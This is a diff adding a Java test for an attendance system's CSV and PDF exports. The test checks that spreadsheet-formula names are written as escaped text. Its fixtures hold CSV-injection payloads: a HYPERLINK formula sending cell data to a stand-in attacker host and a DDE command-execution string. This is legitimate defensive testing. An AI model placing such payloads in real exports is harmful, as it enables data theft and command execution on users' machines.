@@ -15,6 +15,7 @@ import io.quarkus.test.junit.QuarkusTest;
 import io.quarkus.test.oidc.server.OidcWiremockTestResource;
 import it.formapro.attendance.support.Api;
 import it.formapro.attendance.support.CatalogStub;
+import it.formapro.attendance.support.Exports;
 import it.formapro.common.time.Italy;
 import java.time.LocalDate;
 import java.time.LocalTime;
@@ -195,6 +196,53 @@ class ExportResourceTest {
         Api.frontdesk().when().get("/students/{s}/personal-data", 5302).then().statusCode(200)
                 .body("attendance[0].arrivedAt", org.hamcrest.Matchers.is("09:10:00"))
                 .body("attendance[0].spans", org.hamcrest.Matchers.nullValue());
+    }
+
+    /**
+     * Names come from third-party portals and the front desk, teachers from whoever plans the calendar: a CSV cell a
+     * spreadsheet would read as a formula (one starting with = + - @, OWASP "CSV Injection") is written with a leading
+     * single quote, so it opens as the text it is; ordinary names, apostrophes and hyphens inside included, are
+     * written as given, and the PDF (no formulas there) prints every name as given.
+     */
+    @Test
+    void csvCellsASpreadsheetWouldReadAsFormulasAreWrittenAsText() throws Exception {
+        long e = 1036;
+        String link = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Apri\")";
+        participant(e, 7361, "+39 333 1234567", link, DAY);
+        participant(e, 7362, "-2+3", "@SUM(1+1)", DAY);
+        participant(e, 7363, "Anna-Maria", "D'Amico", DAY);
+        Map<String, Object> hostile = Api.lessonBody(DAY, "09:00", "13:00", "1260", "CLASSROOM");
+        hostile.put("teacher", "=cmd|' /C calc'!A0");
+        long first = tutor().body(hostile).when().post("/editions/{e}/lessons", e).then().statusCode(201)
+                .extract().jsonPath().getLong("id");
+        long second = lesson(e, DAY.plusDays(1), "09:00", "13:00", "1260", "CLASSROOM");
+
+        List<CSVRecord> rows = csv(e);
+        assertEquals(6, rows.size(), "two lessons, three students");
+        CSVRecord linked = Exports.row(rows, 7361);
+        assertEquals(String.valueOf(first), linked.get("lesson_id"));
+        assertEquals("'" + link, linked.get("last_name"));
+        assertEquals("'+39 333 1234567", linked.get("first_name"));
+        assertEquals("'=cmd|' /C calc'!A0", linked.get("teacher"));
+        CSVRecord sum = Exports.row(rows, 7362);
+        assertEquals("'@SUM(1+1)", sum.get("last_name"));
+        assertEquals("'-2+3", sum.get("first_name"));
+        CSVRecord plain = Exports.row(rows, 7363);
+        assertEquals("D'Amico", plain.get("last_name"));
+        assertEquals("Anna-Maria", plain.get("first_name"));
+        assertEquals("1260", plain.get("unit"));
+        assertEquals("CLASSROOM", plain.get("modality"));
+        assertEquals("Giulia Bianchi", rows.stream().filter(r -> r.get("lesson_id").equals(String.valueOf(second)))
+                .findFirst().orElseThrow().get("teacher"));
+        for (CSVRecord r : rows) {
+            for (String cell : r) {
+                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a formula cell: " + r);
+            }
+        }
+
+        String text = pdfText(e);
+        assertTrue(text.contains("@SUM(1+1) -2+3 (7362)"), text);
+        assertTrue(text.contains("D'Amico Anna-Maria (7363)"), text);
     }
 
     @Test
